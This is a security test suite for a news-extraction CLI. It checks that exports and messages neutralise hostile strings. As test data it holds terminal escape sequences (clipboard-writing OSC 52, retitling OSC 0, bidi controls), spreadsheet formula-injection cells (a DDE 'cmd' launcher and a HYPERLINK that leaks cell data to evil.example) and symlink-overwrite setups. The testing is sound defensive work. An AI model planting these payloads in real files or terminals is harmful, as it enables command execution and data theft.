"""The command line on hostile stores and arguments: nothing it prints drives a terminal, exports are safe.

A store is input too (issue 14): someone hands you one, and every string in it may hold an
escape sequence. These tests hand-edit a real store's files, and also feed the CLI a fake store
that returns raw strings (so the CLI is safe on its own, whatever the store's loader checks).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from conftest import run_cli
from hypothesis import given, settings
from hypothesis import strategies as st

from store.paths import path_from_key
from store.records import Article, Entity, Extraction, Figure, Quote

WriteFile = Callable[..., Path]

OSC52 = "\x1b]52;c;aGVsbG8=\x07"  # writes the clipboard
OSC0 = "\x1b]0;pwned\x07"  # retitles the terminal
C1 = "\x9b31m\x9d0;t\x9c\x85"  # one-byte CSI, OSC, ST, NEL
BIDI = "\u202eevil\u2066x\u2069"
# What must never reach a terminal: C0 controls but newline and tab, DEL, C1, bidi controls,
# lone surrogates.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

ARTICLE = (
    "Title: Acme results\n\n"
    "Acme Corp said sales rose 5% to $3.2bn, said Jane Doe in London.\n"
    '"We are pleased," said Jane Doe, the chief executive.\n'
)


def assert_inert(label: str, *outputs: str) -> None:
    for out in outputs:
        found = UNSAFE.search(out)
        assert found is None, (
            f"{label}: {found.group()!r} reached the output: "
            f"{out[max(0, found.start() - 40) : found.start() + 40]!r}"
        )


def parts_file(db: Path) -> Path:
    return db.with_name(db.name + ".parts") / "0000.json"


def make_store(tmp_path: Path, write_file: WriteFile, name: str = "db.json") -> Path:
    write_file("news/a.txt", ARTICLE)
    db = tmp_path / name
    result = run_cli("ingest", tmp_path / "news", "--db", db)
    assert result.returncode == 0, result.stderr
    return db


def edit_store(
    db: Path,
    row: dict[str, Any] | None = None,
    doc: dict[str, Any] | None = None,
    items: Callable[[dict[str, list[list[Any]]], dict[str, list[str]]], None] | None = None,
) -> None:
    """Hand-edit the only article: its main-file row, its shard document, its item rows."""
    main = orjson.loads(db.read_bytes())
    ((key, main_row),) = main["articles"].items()
    main_row.update(row or {})
    db.write_bytes(orjson.dumps(main))
    shard = orjson.loads(parts_file(db).read_bytes())
    shard_doc = shard["articles"][key]
    shard_doc.update(doc or {})
    if items is not None:
        items(shard_doc["items"], shard["meta"]["1"]["fields"])
    parts_file(db).write_bytes(orjson.dumps(shard))


def set_field(rows: list[list[Any]], order: list[str], name: str, value: Any) -> None:
    for row in rows:
        row[order.index(name)] = value


def hostile_free_text(tmp_path: Path, write_file: WriteFile, name: str = "db.json") -> Path:
    """A store whose free-text fields (no fixed set to check them against) all hold escapes."""
    db = make_store(tmp_path, write_file, name)

    def poison(items: dict[str, list[list[Any]]], order: dict[str, list[str]]) -> None:
        set_field(items["entities"], order["entities"], "canonical", "Acme " + C1)
        set_field(items["quotes"], order["quotes"], "speaker", BIDI + "Jane Doe")
        set_field(items["quotes"], order["quotes"], "speaker_role", OSC0 + "boss")
        set_field(items["figures"], order["figures"], "unit", OSC52)
        set_field(items["figures"], order["figures"], "noun", OSC0)
        set_field(items["figures"], order["figures"], "context", "sales " + C1)

    (doc,) = orjson.loads(parts_file(db).read_bytes())["articles"].values()
    edit_store(
        db,
        row={
            "title": "Acme results " + OSC52,
            "date": OSC0 + "2024-01-01",
            "source": "BBC" + C1,
            "path": str(tmp_path / "news" / "a.txt") + BIDI,
        },
        # Escapes appended after the last item keep every span right.
        doc={"url": "http://x.example/" + OSC52, "authors": [OSC0], "text": doc["text"] + OSC52},
        items=poison,
    )
    return db


COMMANDS: list[tuple[str, ...]] = [
    ("stats",),
    ("export", "--format", "md"),
    ("export", "--format", "csv"),
    ("export", "--format", "json"),
    ("export", "--format", "jsonl"),
    ("search", "Acme"),
    ("search", "Jane"),
    ("search", "pleased"),
    ("search", "Acme", "--json"),
    ("repair",),
]


def run_everything(db: Path, tmp_path: Path) -> Iterator[tuple[str, str, str, int]]:
    """(label, stdout, stderr, exit status) of every command on ``db``, files written included."""
    for args in COMMANDS:
        result = run_cli(*args, "--db", db)
        yield " ".join(args), result.stdout, result.stderr, result.returncode
    for fmt in ("md", "csv", "json", "jsonl"):
        out = tmp_path / f"out.{fmt}"
        result = run_cli("export", "--format", fmt, "-o", out, "--db", db)
        written = out.read_bytes().decode("utf-8") if out.exists() else ""
        yield f"export {fmt} -o", result.stdout + written, result.stderr, result.returncode


def check_everything(db: Path, tmp_path: Path) -> list[int]:
    statuses = []
    for label, stdout, stderr, status in run_everything(db, tmp_path):
        assert "Traceback" not in stderr, f"{label}: {stderr}"
        assert_inert(label, stdout, stderr)
        # Either it worked, or the store was refused in words (never silence, never a crash).
        assert status in (0, 2), f"{label}: exit {status}: {stderr}"
        assert stdout if status == 0 else "newsexplore:" in stderr, label
        statuses.append(status)
    return statuses


def test_a_store_with_escapes_in_every_free_text_field_cannot_drive_the_terminal(
    tmp_path: Path, write_file: WriteFile
) -> None:
    db = hostile_free_text(tmp_path, write_file)
    statuses = check_everything(db, tmp_path)
    # Free text is data: it is shown neutralised, not refused.
    assert statuses.count(0) >= len(statuses) - 1, statuses
    markdown = run_cli("export", "--format", "md", "--db", db).stdout
    assert "Acme results \u241b]52;c;aGVsbG8=\u2407" in markdown  # shown, visibly, not obeyed


def test_a_store_with_escapes_in_entity_types_and_figure_kinds_cannot_drive_the_terminal(
    tmp_path: Path, write_file: WriteFile
) -> None:
    db = make_store(tmp_path, write_file)

    def poison(items: dict[str, list[list[Any]]], order: dict[str, list[str]]) -> None:
        set_field(items["entities"], order["entities"], "type", OSC0)
        set_field(items["figures"], order["figures"], "kind", "\x1b]0;pwn\x07")

    edit_store(db, items=poison)
    check_everything(db, tmp_path)


def test_a_store_in_a_folder_named_with_escapes_prints_it_neutralised(
    tmp_path: Path, write_file: WriteFile
) -> None:
    folder = tmp_path / f"dl{OSC0}{C1}"
    folder.mkdir()
    db = make_store(tmp_path, write_file, f"dl{OSC0}{C1}/db.json")
    again = run_cli("ingest", tmp_path / "news", "--db", db)
    assert again.returncode == 0 and "Traceback" not in again.stderr
    assert_inert("ingest", again.stdout, again.stderr)
    check_everything(db, tmp_path)
    # repair on a damaged store names the damaged shard (in that folder) on stderr.
    shard = orjson.loads(parts_file(db).read_bytes())
    shard["articles"] = {}
    parts_file(db).write_bytes(orjson.dumps(shard))
    result = run_cli("repair", "--db", db)
    assert "Traceback" not in result.stderr
    assert "missing" in result.stderr
    assert_inert("repair", result.stdout, result.stderr)


# ----- the CLI alone, on a store that returns raw strings -------------------------------------


class RawStore:
    """Stands in for store.db.Store: returns whatever hostile strings it was given, unchecked."""

    def __init__(self, folder: Path, article: Article, extraction: Extraction) -> None:
        self.path = folder / "db.json"
        self.path.write_text("{}", encoding="utf-8")
        self.parts_dir = folder / "db.json.parts"
        self.article, self.extraction = article, extraction

    def check(self) -> None:
        pass

    def __len__(self) -> int:
        return 1

    def iter_all(self) -> Iterator[tuple[Article, Extraction]]:
        yield self.article, self.extraction

    def file_rows(self) -> dict[str, tuple[int, int, list[str]]]:
        return {self.article.path: (1, 1, [self.article.id])}

    def disk_size(self) -> int:
        return 1

    def tally(self) -> dict[str, Counter[str]]:
        return {
            "entities": Counter(e.type for e in self.extraction.entities),
            "figures": Counter(f.kind for f in self.extraction.figures),
            "quotes": Counter(attributed=1, unattributed=0),
        }

    def repair(self) -> Any:
        """A repair report as a careless store might word it (raw paths, raw sources)."""
        from store.db import RepairReport

        bad = f"{self.article.path}: 1 articles missing {OSC0}"
        return RepairReport(problems=[bad], notes=[bad], dropped=[f"dropped {OSC52}"])

    def sources(self) -> list[str]:
        return ["/nonexistent/" + OSC52]

    def ingest(self, paths: list[Path], **_: Any) -> Any:
        from store.ingest import IngestReport

        return IngestReport(errors=[f"bad{OSC0}.txt: unreadable"], warnings=[f"w{C1}"], skipped=1)


def raw_article() -> tuple[Article, Extraction]:
    text = "Acme said 5%. " + OSC52
    article = Article(
        id="id" + OSC0,
        path="/news/" + BIDI + ".txt",
        title="=HYPERLINK(" + OSC52,
        date=OSC0,
        source=C1,
        text=text,
        url=OSC52,
        authors=[OSC0],
    )
    extraction = Extraction(
        entities=[Entity(0, 4, "Acme", OSC0, "@SUM(1)" + C1)],
        quotes=[Quote(0, 4, "Acme", "-2+3" + BIDI, OSC52, 0, 4)],
        figures=[Figure(10, 12, "5%", "\x1b]0;pwn\x07", -2.5, "+cmd|' /C calc'!A0", OSC0, C1)],
    )
    return article, extraction


@pytest.fixture
def raw_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RawStore:
    import store.ingest
    import tui.cli

    raw = RawStore(tmp_path, *raw_article())
    monkeypatch.setattr(tui.cli, "_open_store", lambda db: raw)
    # The CLI calls run_ingest itself (no Store.ingest facade): hand it the raw store's report.
    monkeypatch.setattr(store.ingest, "run_ingest", lambda s, paths, **kw: s.ingest(paths, **kw))
    return raw


@pytest.mark.parametrize(
    "args",
    [
        ["stats"],
        ["export", "--format", "md"],
        ["export", "--format", "csv"],
        ["export", "--format", "json"],
        ["export", "--format", "jsonl"],
        ["repair"],
        ["ingest", "/nonexistent"],
    ],
)
def test_the_cli_neutralises_raw_strings_from_any_store(
    raw_store: RawStore, capsys: pytest.CaptureFixture[str], args: list[str]
) -> None:
    from tui.cli import main

    main(args)
    out, err = capsys.readouterr()
    assert_inert(" ".join(args), out, err)
    assert out or err


# ----- finding 3: no fixed temporary name, no writing through a planted link --------------------


def test_export_ignores_a_symlink_planted_at_the_old_temporary_name(
    tmp_path: Path, write_file: WriteFile
) -> None:
    db = make_store(tmp_path, write_file)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / ".out.csv.tmp").symlink_to(victim)
    result = run_cli("export", "--format", "csv", "-o", out_dir / "out.csv", "--db", db)
    assert result.returncode == 0, result.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    out = out_dir / "out.csv"
    assert not out.is_symlink() and out.read_text(encoding="utf-8").startswith("article_id,")
    # Nothing left behind but the export and the planted link.
    assert sorted(p.name for p in out_dir.iterdir()) == [".out.csv.tmp", "out.csv"]


def test_export_over_a_symlinked_output_replaces_the_link_not_its_target(
    tmp_path: Path, write_file: WriteFile
) -> None:
    db = make_store(tmp_path, write_file)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out = tmp_path / "out.md"
    out.symlink_to(victim)
    result = run_cli("export", "--format", "md", "-o", out, "--db", db)
    assert result.returncode == 0, result.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not out.is_symlink() and out.read_text(encoding="utf-8").startswith("## Acme results")


def test_a_failed_export_leaves_no_temporary_file(tmp_path: Path, write_file: WriteFile) -> None:
    db = make_store(tmp_path, write_file)
    out_dir = tmp_path / "out"
    (out_dir / "taken.csv").mkdir(parents=True)  # a folder where the file should go
    result = run_cli("export", "--format", "csv", "-o", out_dir / "taken.csv", "--db", db)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "taken.csv: Is a directory" in result.stderr and ".partial" not in result.stderr
    assert [p.name for p in out_dir.iterdir()] == ["taken.csv"]


def test_two_exports_to_one_file_use_different_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from store.atomic_file import atomic_text_writer

    seen: list[str] = []
    out = tmp_path / "out.txt"
    with atomic_text_writer(out) as first, atomic_text_writer(out) as second:
        seen = sorted(p.name for p in tmp_path.iterdir())
        first.write("one")
        second.write("two")
    assert len(seen) == 2 and all(name.startswith(".out.txt.") for name in seen), seen
    assert out.read_text(encoding="utf-8") in ("one", "two")
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


# ----- finding 10: CSV cells a spreadsheet would run ------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "canonical": "@SUM(A1:A9)",
    "speaker": "-2+3",
    "unit": "+cmd|' /C calc'!A0",
    "noun": "\tcount",
    "context": "\r=1+1",
}
NUMERIC = ("start", "end", "speaker_start", "speaker_end", "value")


def formula_store(tmp_path: Path, write_file: WriteFile) -> Path:
    db = make_store(tmp_path, write_file)

    def poison(items: dict[str, list[list[Any]]], order: dict[str, list[str]]) -> None:
        set_field(items["entities"], order["entities"], "canonical", FORMULAS["canonical"])
        set_field(items["quotes"], order["quotes"], "speaker", FORMULAS["speaker"])
        for name in ("unit", "noun", "context"):
            set_field(items["figures"], order["figures"], name, FORMULAS[name])
        set_field(items["figures"], order["figures"], "value", -2.5)

    edit_store(db, row={"title": FORMULAS["title"]}, items=poison)
    return db


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path, write_file: WriteFile) -> None:
    db = formula_store(tmp_path, write_file)
    result = run_cli("export", "--format", "csv", "--db", db)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC:
                assert cell == "" or isinstance(float(cell), float), (column, cell)  # a number
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    cells = {cell for row in rows for cell in row.values()}
    for name in ("title", "canonical", "speaker", "unit"):
        assert "'" + FORMULAS[name] in cells, name  # the text is kept, behind a quote
    # A carriage return is shown as a visible symbol, so the cell no longer starts a formula.
    assert "\u240d=1+1" in cells
    # Our own numbers stay numbers: -2.5 is data, not a formula.
    assert {row["value"] for row in rows if row["item"] == "figure"} == {"-2.5"}


def test_csv_cells_of_the_wrong_type_are_text_and_neutralised(
    raw_store: RawStore, capsys: pytest.CaptureFixture[str]
) -> None:
    from tui.cli import main

    raw_store.extraction.figures[0].value = "=1+1"  # type: ignore[assignment]
    raw_store.extraction.figures[0].start = "-3"  # type: ignore[assignment]
    raw_store.extraction.figures[0].noun = "\tcount"  # a store may fold the tab; this one does not
    main(["export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    figure = next(row for row in rows if row["item"] == "figure")
    assert figure["value"] == "'=1+1" and figure["start"] == "'-3"
    assert figure["noun"] == "'\tcount"
    assert (
        figure["unit"] == "'+cmd|' /C calc'!A0"
        and figure["context"] == "\ufffd31m\ufffd0;t\ufffd\ufffd"
    )


def test_json_exports_keep_formulas_exact(tmp_path: Path, write_file: WriteFile) -> None:
    db = formula_store(tmp_path, write_file)
    (record,) = orjson.loads(run_cli("export", "--format", "json", "--db", db).stdout)
    assert record["title"] == FORMULAS["title"]
    assert {e["canonical"] for e in record["entities"]} == {FORMULAS["canonical"]}
    assert {f["unit"] for f in record["figures"]} == {FORMULAS["unit"]}


def test_export_help_says_how_csv_cells_are_quoted() -> None:
    help_text = " ".join(run_cli("export", "--help").stdout.split())
    assert "formula" in help_text and "'" in help_text and "= + - @" in help_text


# ----- minor: JSON output escapes C1 and bidi controls, and stays exact --------------------------

RAW_UNSAFE_BYTES = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\xed[\xa0-\xbf]"
)


def test_json_exports_escape_controls_yet_round_trip(tmp_path: Path, write_file: WriteFile) -> None:
    from store.db import Store
    from tui.cli import article_json

    db = hostile_free_text(tmp_path, write_file)
    expected = [article_json(a, e) for a, e in Store(db).iter_all()]
    for fmt in ("json", "jsonl"):
        out = tmp_path / f"out.{fmt}"
        assert run_cli("export", "--format", fmt, "-o", out, "--db", db).returncode == 0
        raw = out.read_bytes()
        assert RAW_UNSAFE_BYTES.search(raw.replace(b"\n", b"")) is None, fmt
        records = (
            orjson.loads(raw) if fmt == "json" else [orjson.loads(x) for x in raw.splitlines()]
        )
        assert records == expected, fmt
    # The same on a terminal.
    stdout = run_cli("export", "--format", "jsonl", "--db", db).stdout
    assert_inert("export jsonl", stdout)
    assert [orjson.loads(x) for x in stdout.splitlines()] == expected


def test_extract_json_escapes_controls_in_file_names_and_keeps_them_exact(
    tmp_path: Path, write_file: WriteFile
) -> None:
    name = f"csi\x9b31m{BIDI}.txt"
    write_file(f"news/{name}", ARTICLE)
    result = run_cli("extract", "--json", tmp_path / "news")
    assert result.returncode == 0, result.stderr
    assert_inert("extract --json", result.stdout, result.stderr)
    (record,) = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert record["path"] == str(tmp_path / "news" / name)


def test_extract_json_writes_a_file_name_that_is_not_utf8(tmp_path: Path) -> None:
    folder = tmp_path / "news"
    folder.mkdir()
    raw_name = os.fsencode(folder) + b"/bad\xff.txt"
    with open(raw_name, "wb") as handle:
        handle.write(ARTICLE.encode())
    result = run_cli("extract", "--json", folder)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert_inert("extract --json", result.stdout, result.stderr)
    # Lossless: the path as stored (store.paths' key, "bad\\xff.txt") gives the name back.
    (record,) = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert os.fsencode(path_from_key(record["path"])) == raw_name


# Any string, lone surrogates (an undecodable file name as Python holds it) included.
any_text = st.text(st.characters(codec=None, categories=None), max_size=40)


@settings(max_examples=300, deadline=None)
@given(any_text, st.lists(any_text, max_size=3))
def test_json_output_has_no_control_bytes_and_parses_back_the_same(
    text: str, more: list[str]
) -> None:
    from tui.cli import json_bytes

    value = {"path": text, text: more, "n": [1, -2.5, None]}
    raw = json_bytes(value)
    assert RAW_UNSAFE_BYTES.search(raw) is None
    assert json.loads(raw) == value  # the standard library reads a lone surrogate's escape
    if not any(0xD800 <= ord(c) <= 0xDFFF for c in text + "".join(more)):
        assert orjson.loads(raw) == value


# ----- minor: messages that echo what you typed ---------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["search", "kind:\x1b]0;pwn\x07"],
        ["search", "Acme type:\u202epwn\x9b31m"],
        ["search", "type:\x9b31m"],
        ["stats", "\x1b]0;pwn\x07"],
        ["export", "--format", "\x1b]0;pwn\x07"],
        ["search", "x", "--limit", "\x1b]0;pwn\x07"],
        ["--bogus\x1b]52;c;aGk=\x07"],
    ],
)
def test_messages_never_echo_control_characters(
    tmp_path: Path, write_file: WriteFile, args: list[str]
) -> None:
    db = make_store(tmp_path, write_file)
    result = run_cli(*args, "--db", db)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "pwn" in result.stderr or "aGk=" in result.stderr or "31m" in result.stderr
    assert_inert(" ".join(args), result.stdout, result.stderr)
